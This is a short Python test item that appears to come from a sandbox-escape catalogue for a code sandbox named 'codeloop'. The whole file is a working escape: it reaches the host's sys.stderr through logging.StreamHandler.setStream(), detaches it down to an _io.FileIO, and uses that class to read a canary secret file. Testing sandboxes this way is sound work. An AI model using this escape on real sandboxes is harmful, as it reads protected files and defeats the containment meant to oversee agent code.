# Technique: method results are not vetted: StreamHandler.setStream() returns the host's sys.stderr, whose
#            detach() chain ends at an _io.FileIO; its class opens any path (no stream/buffer/raw attribute read)
# Goal: a (read /tmp/canary/secret.txt)
# Source: written for codeloop (follow-up to 233: host objects handed out by an allowed module's functions)
# Requires: stdlib (logging - in the data-agent profile)
import logging

stream = logging.StreamHandler().setStream(None)
inner = stream.detach()
raw = inner.detach() if hasattr(inner, "detach") else inner
reader = type(raw)("/tmp/canary/secret.txt")
print(reader.read().decode())
